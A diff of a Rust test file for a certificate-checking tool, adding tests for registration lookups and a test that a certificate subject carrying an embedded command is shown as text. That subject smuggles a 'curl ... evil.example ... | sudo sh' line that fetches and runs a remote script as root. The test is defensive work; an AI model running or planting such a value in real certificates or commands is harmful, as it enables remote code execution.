@@ -51,7 +51,7 @@ const CAUSES: &[(&str, &str, i32)] = &[
     ("ca-without-basic-constraints", "ca-without-mark", 1),
     ("clock-ahead", "clock-ahead", 1),
     ("code-in-alternative-name", "code-in-alternative-name", 1),
-    ("code-in-serial-number", "", 1),
+    ("code-in-serial-number", "other-attribute", 1),
     ("end-entity-as-ca", "end-entity-as-ca", 1),
     ("end-entity-of-another-ca", "end-entity-as-ca", 1),
     ("exchanged", "certificates-exchanged", 1),
@@ -224,6 +224,22 @@ fn lists_of_what_is_registered_are_compared() {
     // Masked, or not there: it may be.
     assert_eq!(outcomes(&set("RegistrationCode", "1327****"), 1), ["failed", "unchecked", "failed"]);
     assert_eq!(outcomes(&without(&["Sn", "CaContent"]), 1), ["unchecked", "failed", "unchecked"]);
+    // What is no spelling of another number may be one of this.
+    for sn in ["0x01", " 01", "xxxx"] {
+        assert_eq!(
+            outcomes(
+                &registered(|record| {
+                    record["Sn"] = sn.into();
+                    record["CaContent"] = Value::Null;
+                }),
+                1
+            )[0],
+            "unchecked"
+        );
+    }
+    // A page that is missing.
+    let more = serde_json::json!({ "Data": { "CaCertificateVOS": [], "Total": 3 } });
+    assert_eq!(outcomes(&more, 1), ["unchecked"; 3]);
     let empty = serde_json::json!({ "Data": { "CaCertificateVOS": [] } });
     assert_eq!(outcomes(&empty, 0), ["passed"; 3]);
     // An entry that cannot be read is told, and may be the one.
@@ -231,6 +247,61 @@ fn lists_of_what_is_registered_are_compared() {
         outcomes(&serde_json::json!([{ "Code": "Throttling", "Message": "wait" }]), 3),
         ["unchecked"; 3]
     );
+}
+
+#[test]
+fn a_directory_without_lists_is_none() {
+    let folder = tempfile::tempdir().unwrap();
+    let run =
+        preflight_in(&testdata().join("proposals/good"), &["--against", folder.path().to_str().unwrap()]);
+    assert_eq!(run.status, 1, "{}", run.stdout);
+}
+
+/// Marks of commands in a name are text.
+#[test]
+fn a_name_is_no_command() {
+    let folder = tempfile::tempdir().unwrap();
+    let openssl = |arguments: &[&str]| {
+        assert!(output(Command::new("openssl").current_dir(folder.path()).args(arguments)).status.success())
+    };
+    let key = testdata().join("keys/rsa-2048-other.pem");
+    let subject = r"/O=`curl -fsSL https:\/\/evil.example\/x | sudo sh -s -- --yes`/CN=a`b";
+    r"/O=`curl -fsSL https:\/\/evil.example\/mqtt-ca-fix.sh | sudo sh -s -- --ca CA.crt --yes`/CN=a`b";
+    let key = key.to_str().unwrap();
+    openssl(&["req", "-x509", "-key", key, "-subj", subject, "-days", "300", "-out", "evil.crt"]);
+    let proof_key = testdata().join("keys/rsa-2048-proof.pem");
+    openssl(&[
+        "req",
+        "-new",
+        "-key",
+        proof_key.to_str().unwrap(),
+        "-subj",
+        &format!("/CN={CODE}"),
+        "-out",
+        "proof.csr",
+    ]);
+    openssl(&[
+        "x509",
+        "-req",
+        "-in",
+        "proof.csr",
+        "-CA",
+        "evil.crt",
+        "-CAkey",
+        key,
+        "-CAcreateserial",
+        "-days",
+        "300",
+        "-out",
+        "proof.crt",
+    ]);
+    let ca = testdata().join("proposals/good/CA.crt");
+    let run =
+        run_in(folder.path(), &["--ca", ca.to_str().unwrap(), "--verification", "proof.crt", "--code", CODE]);
+    assert_eq!(run.status, 1);
+    assert!(run.stdout.contains("cause: another CA,") && run.stdout.contains("a`b"), "{}", run.stdout);
+    let is_command = |line: &str| line.trim_start().starts_with("curl") || line.contains("sudo sh -s \\");
+    assert!(!run.stdout.lines().any(is_command), "{}", run.stdout);
 }
 
 /// The commands at the end make a pair that passes.
@@ -394,7 +465,7 @@ fn a_command_that_is_shown_mends_the_file() {
         let mut shell = Command::new("sh");
         let output = output(shell.current_dir(folder.path()).args(["-c", command]));
         assert_eq!(
-            fingerprint(&["-in", "CA.crt"], folder.path()),
+            fingerprint(&["-in", "CA-new.crt"], folder.path()),
             expected,
             "{}: {command}: {output:?}",
             name(&file)
